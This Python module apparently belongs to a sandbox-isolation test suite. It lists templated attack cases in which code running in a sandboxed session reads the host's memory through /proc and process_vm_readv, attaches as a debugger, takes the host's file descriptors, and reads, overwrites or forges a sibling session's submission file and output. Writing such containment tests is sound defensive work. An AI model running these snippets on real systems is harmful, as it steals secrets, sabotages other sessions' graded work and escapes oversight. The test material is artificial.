"""Reading and writing other processes: the host, a bystander, a sibling session."""

from hostile.record import Attack

_IOV = """
class Piece(ctypes.Structure):
    _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]
room = ctypes.create_string_buffer(200)
mine = Piece(ctypes.addressof(room), <<secret_length>>)
"""


def _attack(name: str, aim: str, code: str, won: str = "secret", needs: str = "no Yama") -> Attack:
    return Attack(name=name, family="parent and sibling memory", aim=aim, code=code, won=won, needs=needs)


MEMORY = (
    _attack(
        "host_memory_file",
        "read a key in the host's memory through /proc",
        "at = os.open('/proc/<<host>>/mem', os.O_RDONLY)\n"
        "print(os.pread(at, <<secret_length>>, <<key_address>>).decode())",
    ),
    _attack(
        "host_memory_call",
        "read a key in the host's memory by process_vm_readv",
        _IOV + "theirs = Piece(<<key_address>>, <<secret_length>>)\n"
        "call(310, <<host>>, ctypes.addressof(mine), 1, ctypes.addressof(theirs), 1, 0)\nprint(room.value.decode())",
    ),
    _attack(
        "host_memory_traced",
        "attach to a process outside as a debugger",
        "call(101, 0x4206, <<bystander>>, 0, 0); print('<<token>>')",
        won="told",
    ),
    _attack(
        "host_memory_map",
        "see where the host's memory lies",
        "print(open('/proc/<<host>>/maps').readline(), '<<token>>')",
        won="told",
    ),
    _attack(
        "host_descriptor_taken",
        "take a descriptor out of the host",
        "at = call(438, call(434, <<host>>, 0), <<answers_fd>>, 0)\nprint(os.pread(at, 99, 0).decode())",
    ),
    _attack(
        "sibling_memory_file",
        "read a sibling session's memory through /proc",
        "at = os.open('/proc/<<sibling>>/mem', os.O_RDONLY)\n"
        "print(os.pread(at, <<secret_length>>, <<sibling_address>>).decode())",
    ),
    _attack(
        "sibling_memory_written",
        "change a sibling's variable",
        _IOV + "room.value = b'<<token>>'\nmine.size = 14\ntheirs = Piece(<<sibling_address>>, 14)\n"
        "call(311, <<sibling>>, ctypes.addressof(mine), 1, ctypes.addressof(theirs), 1, 0)",
        won="sibling_changed",
    ),
    _attack(
        "sibling_files_read",
        "read a sibling's files through its working directory",
        "print(open('/proc/<<sibling>>/cwd/submission.csv').read())",
    ),
    _attack(
        "sibling_files_found",
        "search for the work directories of siblings",
        "import glob\nfor one in glob.glob('/*/sandmle-*/*/work/submission.csv'):\n"
        "    print(<<sibling>>, open(one).read())",
    ),
    _attack(
        "sibling_files_written",
        "replace a sibling's submission",
        "open('/proc/<<sibling>>/cwd/submission.csv', 'w').write('<<token>>')",
        won="sibling_file_changed",
    ),
    _attack(
        "sibling_output_written",
        "write into a sibling's output",
        "os.write(os.open('/proc/<<sibling_busy>>/fd/1', os.O_WRONLY | os.O_APPEND), b'<<token>>')",
        won="sibling_output_forged",
    ),
    _attack(
        "sibling_channel_taken",
        "take a sibling's channel to the host and swallow its next cell",
        "at = call(438, call(434, <<sibling>>, 0), 3, 0)\nprint(at, '<<token>>')",
        won="told",
    ),
    _attack(
        "host_compared",
        "ask the kernel which objects the host shares with it",
        "call(312, os.getpid(), <<host>>, 1, 0, 0); print('<<token>>')",
        won="told",
    ),
    _attack(
        "host_pages_asked",
        "ask where the host's pages lie",
        "page = ctypes.c_void_p(<<key_address>> & ~4095)\nat = ctypes.c_int(-99)\n"
        "call(279, <<host>>, 1, ctypes.addressof(page), 0, ctypes.addressof(at), 0); print('<<token>>')",
        won="told",
    ),
    _attack(
        "host_locks_asked",
        "ask for the host's list of robust locks, an address in its memory",
        "at, size = ctypes.c_void_p(), ctypes.c_size_t()\n"
        "call(274, <<host>>, ctypes.addressof(at), ctypes.addressof(size)); print('<<token>>')",
        won="told",
    ),
    _attack(
        "host_counted",
        "count what the host does, as a profiler would",
        "what = ctypes.create_string_buffer(112)\nstruct.pack_into('IIQQQQQ', what, 0, 1, 112, 1, 0, 0, 0, 0x60)\n"
        "call(298, ctypes.addressof(what), <<host>>, -1, -1, 0); print('<<token>>')",
        won="told",
        needs="perf events",
    ),
)
